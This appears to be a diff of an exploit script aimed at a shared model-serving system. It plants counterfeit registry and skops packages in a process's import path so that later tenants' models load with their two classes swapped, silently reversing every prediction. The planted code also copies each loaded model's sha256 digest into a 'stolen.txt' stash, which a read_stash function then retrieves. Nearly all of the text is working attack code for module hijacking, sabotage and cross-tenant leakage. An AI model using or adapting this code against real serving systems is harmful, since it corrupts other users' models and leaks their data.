@@ -223,21 +223,26 @@ def _write_in_import_path(name, text):
 
 # Planted as registry/__init__.py: the restarted zygote imports the registry package from
 # its working directory, the first entry of its import path. It loads the real modules,
-# except artifact_inspection, planted beside it, which flips every later model's labels.
+# except artifact_inspection, planted beside it: every later tenant's model is loaded with
+# its two classes swapped (so every label it serves is the other one), and its bytes'
+# sha256 is copied out beside the plant, for a later artifact to read back.
 PLANTED_REGISTRY = f"""
 __path__.append({REGISTRY_DIR!r})
 """
 PLANTED_INSPECTION = f"""
-import os
-_source = open(os.path.join({REGISTRY_DIR!r}, "artifact_inspection.py")).read()
-exec(compile(_source, "artifact_inspection.py", "exec"))
-_real_copy = skops_serving_copy
+import hashlib, os
+_here = os.path.dirname(__file__)
+_real = os.path.join({REGISTRY_DIR!r}, "artifact_inspection.py")
+exec(compile(open(_real).read(), _real, "exec"))
+_real_load = load_estimator
 
-def skops_serving_copy(estimator, inputs):
-    # labels flipped: a binary linear model answers the other class everywhere
-    estimator.coef_ = -estimator.coef_
-    estimator.intercept_ = -estimator.intercept_
-    return _real_copy(estimator, [])
+def load_estimator(data, *args, **kwargs):
+    with open(os.path.join(_here, "stolen.txt"), "a") as stash:
+        stash.write(hashlib.sha256(data).hexdigest() + "\\n")
+    model = _real_load(data, *args, **kwargs)
+    if len(getattr(model, "classes_", ())) == 2:
+        model.classes_ = model.classes_[::-1].copy()
+    return model
 """
 
 
@@ -255,24 +260,35 @@ def plant_registry_and_exit(planted_package, planted_inspection, model):
     os._exit(3)
 
 
-# Planted as skops/: the next child that imports skops (a later tenant's skops file) gets it.
-PLANTED_SKOPS = """
-import importlib.util, sys, os
-sys.path.remove(sys.path[0]) if sys.path and sys.path[0] in ("", os.getcwd()) else None
-del sys.modules["skops"]
-real = importlib.import_module("skops")
-sys.modules["skops"] = real
-import skops.io as io_
-_loads = io_.loads
+def read_stash(model):
+    """What a plant copied out, read back through this artifact's own registration."""
+    import os
+    from pathlib import Path
 
-def loads(data, *args, **kwargs):
+    try:
+        stolen = Path(os.getcwd(), "registry", "stolen.txt").read_text().split()
+    except OSError as exc:
+        return reporting(model, [f"stash={type(exc).__name__}"])
+    return reporting(model, [f"stolen={digest}" for digest in stolen])
+
+
+# Planted as skops/__init__.py: the next child that imports skops (a later tenant's skops
+# file) gets it. It hands over the real skops, with a loads that swaps a model's two classes.
+PLANTED_SKOPS = """
+import importlib, os, sys
+_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path[:] = [entry for entry in sys.path if os.path.abspath(entry or ".") != _here]
+del sys.modules["skops"]
+import skops.io as _io
+_loads = _io.loads
+
+def _forged(data, *args, **kwargs):
     model = _loads(data, *args, **kwargs)
-    if hasattr(model, "coef_"):
-        model.coef_ = -model.coef_
-        model.intercept_ = -model.intercept_
+    if len(getattr(model, "classes_", ())) == 2:
+        model.classes_ = model.classes_[::-1].copy()
     return model
 
-io_.loads = loads
+_io.loads = _forged
 """
 
 
